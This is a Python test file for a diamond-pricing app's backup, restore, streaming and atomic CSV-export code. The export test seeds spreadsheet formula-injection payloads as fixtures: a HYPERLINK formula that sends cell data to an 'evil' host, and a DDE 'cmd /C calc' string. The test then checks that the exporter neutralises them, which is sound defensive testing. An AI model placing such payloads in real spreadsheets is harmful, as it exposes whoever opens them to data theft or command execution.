"""Backups restore faithfully (on SQLite and PostgreSQL, and across them), large stores stream,
and every file written for people is whole, safe from formulas, and never clobbers by surprise."""

from __future__ import annotations

import os
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from sqlalchemy import insert, select

from diamond_model.learning.loop import LearningLoop
from diamond_model.pricing.quote import quote_frame
from diamond_model.storage import counter_quotes
from diamond_model.storage.atomic import TargetError, write_atomically
from diamond_model.storage.backup import BackupError, backup, export_csv, manifest, restore
from diamond_model.storage.tables import Appraisal
from tests.helpers import csv_bytes, make_settings


def rich_store(url: str, folder: Path, appraisals: pd.DataFrame) -> LearningLoop:
    """A seeded store with a second batch, a withdrawn one, rejections, notes and two versions."""
    pipeline = LearningLoop.from_settings(make_settings(url, folder))
    pipeline.store.create_schema()
    extra = appraisals.iloc[2000:2600].astype({"cut": str})
    extra.loc[extra.index[:3], "cut"] = '=HYPERLINK("http://x")'
    pipeline.ingest(csv_bytes(extra), "second.csv", "expert")
    third = pipeline.ingest(csv_bytes(appraisals.iloc[2600:2700]), "third.csv", "expert")
    pipeline.set_withdrawn(third.batch_id, True, note="typed in the wrong currency")
    pipeline.retrain()
    for customer in ("Maria Bianchi", "Luca Verdi"):  # counter quotes are sales records: kept
        counter_quotes.give(
            pipeline.store, "anna", customer, "", 2, "2026-01", {"carat": 1.0}, {"price": 5000.0}
        )
    return pipeline


def quotes(pipeline: LearningLoop, appraisals: pd.DataFrame) -> list[tuple[float, float, float]]:
    model = pipeline.registry.load(pipeline.registry.champion_version())
    stones = appraisals.iloc[4000:4100].drop(columns=["price", "appraised_on"])
    return [(q.price, q.low, q.high) for q in quote_frame(model, stones, 0.9, False).quotes]


def check_round_trip(
    source: LearningLoop, url: str, folder: Path, appraisals: pd.DataFrame
) -> None:
    before = manifest(source.store)
    path = folder / "backup.zip"
    assert backup(source.store, path)["counts"] == before["counts"]
    restored = LearningLoop.from_settings(make_settings(url, folder / "restored"))
    lines = restore(restored.store, path)
    assert "counts and price sum match" in lines[-1]
    after = manifest(restored.store)
    assert after["counts"] == before["counts"] and after["price_sum"] == before["price_sum"]
    assert after["champion"] == before["champion"] == 2
    assert restored.registry.history() == source.registry.history()
    assert restored.store.count_appraisals() == source.store.count_appraisals(), "withdrawal kept"
    assert quotes(restored, appraisals) == quotes(source, appraisals)
    assert restored.store.batches().iloc[-1]["withdrawn_note"] == "typed in the wrong currency"
    # The restored store goes on working: ids continue after the restored rows.
    submission = restored.ingest(csv_bytes(appraisals.iloc[4000:4050]), "next.csv", "expert")
    assert submission.batch_id == 4
    assert counter_quotes.find(restored.store)["customer"].tolist() == [
        "Luca Verdi",
        "Maria Bianchi",
    ]
    assert counter_quotes.give(restored.store, "anna", "", "", 2, "2026-01", {}, {}) == 3
    with pytest.raises(BackupError, match="The database is not empty"):
        restore(restored.store, path)
    source.store.dispose()
    restored.store.dispose()


def test_a_backup_restores_everything_into_an_empty_database(
    seeded_url: str, database_url: str, empty_database, tmp_path: Path, appraisals: pd.DataFrame
) -> None:
    kind = "sqlite" if database_url.startswith("sqlite") else "postgresql"
    source = rich_store(seeded_url, tmp_path / "a", appraisals)
    check_round_trip(source, empty_database(kind), tmp_path, appraisals)


@pytest.mark.postgres
@pytest.mark.parametrize(
    "origin, destination", [("sqlite", "postgresql"), ("postgresql", "sqlite")]
)
def test_a_backup_moves_a_store_between_sqlite_and_postgresql(
    origin: str,
    destination: str,
    seeded_copy,
    empty_database,
    tmp_path: Path,
    appraisals: pd.DataFrame,
) -> None:
    source = rich_store(seeded_copy(origin), tmp_path / "a", appraisals)
    check_round_trip(source, empty_database(destination), tmp_path, appraisals)


def test_a_backup_of_more_than_200_000_appraisals_streams(
    tmp_path: Path, appraisals: pd.DataFrame
) -> None:
    url = f"sqlite:///{tmp_path / 'big.sqlite3'}"
    pipeline = LearningLoop.from_settings(make_settings(url, tmp_path))
    pipeline.store.create_schema()
    pipeline.ingest(csv_bytes(appraisals.iloc[:100]), "seed.csv", "expert")
    with pipeline.store.engine.begin() as connection:
        columns = [c for c in Appraisal.__table__.columns if c.name != "id"]
        source = select(*columns)
        for _ in range(11):  # 100 · 2^11 = 204,800 rows
            connection.execute(
                insert(Appraisal.__table__).from_select([c.name for c in columns], source)
            )
    assert pipeline.store.count_appraisals() == 204_800
    summary = backup(pipeline.store, tmp_path / "big.zip")
    restored = LearningLoop.from_settings(
        make_settings(f"sqlite:///{tmp_path / 'again.sqlite3'}", tmp_path)
    )
    restore(restored.store, tmp_path / "big.zip")
    assert restored.store.count_appraisals() == 204_800
    assert manifest(restored.store)["price_sum"] == summary["price_sum"]
    written = export_csv(restored.store, tmp_path / "export")
    assert sum(1 for _ in open(written[0])) == 204_801


def test_exports_neutralise_formulas_and_refuse_to_clobber(
    pipeline: LearningLoop, tmp_path: Path, appraisals: pd.DataFrame
) -> None:
    bad = appraisals.iloc[:20].astype({"cut": str, "color": str})
    bad.loc[bad.index[0], "cut"] = '=HYPERLINK("http://evil/?"&A1,"click")'
    bad.loc[bad.index[1], "color"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    pipeline.ingest(csv_bytes(bad), "bad.csv", "expert")
    folder = tmp_path / "out"
    appraisals_csv, rejected_csv, _ = export_csv(pipeline.store, folder)
    rejected = pd.read_csv(rejected_csv)
    assert len(rejected) == 2
    assert all(str(v).startswith("'") for v in rejected["value"])
    assert all(str(v).startswith("'") or str(v)[0] not in "=+-@" for v in rejected["raw"])
    assert len(pd.read_csv(appraisals_csv)) == 18
    with pytest.raises(TargetError, match="exists already; use --force"):
        export_csv(pipeline.store, folder)
    export_csv(pipeline.store, folder, overwrite=True)
    with pytest.raises(TargetError, match="is a file, not a folder"):
        export_csv(pipeline.store, appraisals_csv)


def test_files_are_written_whole_or_not_at_all(tmp_path: Path) -> None:
    target = tmp_path / "priced.csv"
    target.write_text("old backup\n")

    def chunks():
        yield b"first half\n"
        raise OSError("killed")

    with pytest.raises(OSError, match="killed"):
        write_atomically(target, chunks(), overwrite=True)
    assert target.read_text() == "old backup\n", "the old file is untouched"
    assert [p.name for p in tmp_path.iterdir()] == ["priced.csv"], "no partial file left"
    elsewhere = tmp_path / "secret.txt"
    elsewhere.write_text("keep me\n")
    link = tmp_path / "link.csv"
    os.symlink(elsewhere, link)
    with pytest.raises(TargetError, match="is a symbolic link"):
        write_atomically(link, b"x", overwrite=True)
    assert elsewhere.read_text() == "keep me\n"
    with pytest.raises(TargetError, match="the folder .* does not exist"):
        write_atomically(tmp_path / "missing" / "a.csv", b"x", overwrite=False)
    assert np.isclose(os.stat(target).st_mode & 0o777, 0o666 & ~_umask())


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask
